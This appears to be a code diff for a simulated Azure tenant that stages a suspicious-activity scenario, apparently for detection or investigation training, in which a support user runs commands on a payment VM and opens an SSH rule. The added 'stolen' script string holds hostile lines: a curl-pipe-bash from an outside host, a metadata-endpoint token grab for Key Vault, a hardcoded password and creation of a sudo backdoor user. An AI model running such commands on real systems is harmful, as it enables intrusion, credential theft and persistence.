@@ -1,7 +1,9 @@
 import type { Tenant } from './tenant/tenant';
-import { subscriptions, type World } from './world';
+import { addChild, subscriptions, type World } from './world';
 
 export const runCommand = 'Microsoft.Compute/virtualMachines/runCommand/action';
+const managed = 'Microsoft.Compute/virtualMachines/runCommands/write';
+const day = 86_400_000;
 
 /** A piece of the story: what happens in the tenant when it is played. */
 export interface Scenario {
@@ -19,14 +21,51 @@ const evidence = {
   principalType: 'Group',
 };
 
+/** The past that makes the present odd: two months of a patch job, and of Dana's days. */
+export function past(tenant: Tenant, { people, vms }: World): void {
+  const now = tenant.state.now();
+  for (let week = 1; week <= 8; week++) {
+    tenant.log({
+      name: runCommand,
+      resourceId: vms.web[week % vms.web.length] ?? '',
+      caller: people.patchBot,
+      ip: '198.51.100.10',
+      at: now - week * 7 * day,
+      tookMs: 40_000,
+    });
+  }
+  for (let ago = 2; ago <= 28; ago += 2) {
+    const at = now - ago * day;
+    const morning = at - (at % day) + 9 * 3_600_000 + ago * 120_000;
+    tenant.log({
+      name: runCommand,
+      resourceId: vms.pay02,
+      caller: people.dana,
+      ip: '198.51.100.77',
+      at: morning,
+      tookMs: 12_000,
+      evidence,
+    });
+  }
+}
+
+const stolen = [
+  '#!/bin/bash',
+  'set -e',
+  'curl -fsSL https://203.0.113.99/i.sh | bash',
+  'TOKEN=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?resource=https://vault.azure.net&api-version=2018-02-01")',
+  'export DB_PASSWORD=Sup3r-S3cret!',
+  'useradd -m -G sudo support2',
+].join('\n');
+
 export const scenarios: readonly Scenario[] = [
   {
     name: 'routine',
-    says: 'A patch job runs a command on a web server, as it does every month',
+    says: 'A patch job runs a command on a web server, as it does every week',
     play: (tenant, { people, vms }) => {
       tenant.log({
         name: runCommand,
-        resourceId: vms.web[0] ?? '',
+        resourceId: vms.web[1] ?? '',
         caller: people.patchBot,
         ip: '198.51.100.10',
         at: tenant.state.now() - 240_000,
@@ -36,27 +75,35 @@ export const scenarios: readonly Scenario[] = [
   },
   {
     name: 'night',
-    says: 'Somebody of support runs a command on a payment machine, after three refusals',
+    says: 'Somebody of support runs commands on a payment machine for the first time, after three refusals',
     play: (tenant, { people, vms }) => {
-      const at = tenant.state.now() - 120_000;
+      const at = tenant.state.now() - 180_000;
       const ip = '203.0.113.24';
+      const dana = { caller: people.dana, ip, authMethods: 'pwd' };
+      for (let i = 3; i > 0; i--)
+        tenant.log({
+          ...dana,
+          name: runCommand,
+          resourceId: vms.test01,
+          at: at - i * 20_000,
+          outcome: 'Forbidden',
+        });
+      tenant.log({ ...dana, name: runCommand, resourceId: vms.pay01, at, tookMs: 32_000, evidence });
       tenant.log({
-        name: runCommand,
-        resourceId: vms.pay02,
-        caller: people.dana,
-        ip,
-        at: at - 60_000,
-        outcome: 'Forbidden',
+        ...dana,
+        name: 'Microsoft.Network/networkSecurityGroups/securityRules/write',
+        resourceId: `${vms.pay01.replace(/Compute.*/, 'Network')}/networkSecurityGroups/nsg-payments/securityRules/ssh-any`,
+        at: at + 60_000,
+        tookMs: 2000,
       });
-      tenant.log({
-        name: runCommand,
-        resourceId: vms.pay01,
-        caller: people.dana,
-        ip,
-        at,
-        tookMs: 32_000,
-        evidence,
+      const script = addChild(tenant, vms.pay01, 'runCommands', 'maintenance', {
+        source: { script: stolen },
+        parameters: [{ name: 'target', value: 'vm-pay-01' }],
+        runAsUser: 'root',
+        provisioningState: 'Succeeded',
+        instanceView: { executionState: 'Succeeded', exitCode: 0, output: 'support2 added', error: '' },
       });
+      tenant.log({ ...dana, name: managed, resourceId: script, at: at + 90_000, tookMs: 8000, evidence });
     },
   },
   {
